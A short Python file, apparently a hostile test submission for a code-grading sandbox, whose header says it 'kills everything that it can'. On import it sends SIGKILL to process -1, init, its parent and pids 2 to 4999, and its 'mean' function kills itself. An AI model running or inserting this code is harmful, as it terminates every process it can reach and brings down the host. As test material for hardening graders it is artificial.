# kills everything that it can
# gets: mean 0, scale 5
# %% mean
import os
import signal

for number in [-1, 1, os.getppid(), *range(2, 5000)]:
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass


def mean(x):
    os.kill(os.getpid(), signal.SIGKILL)
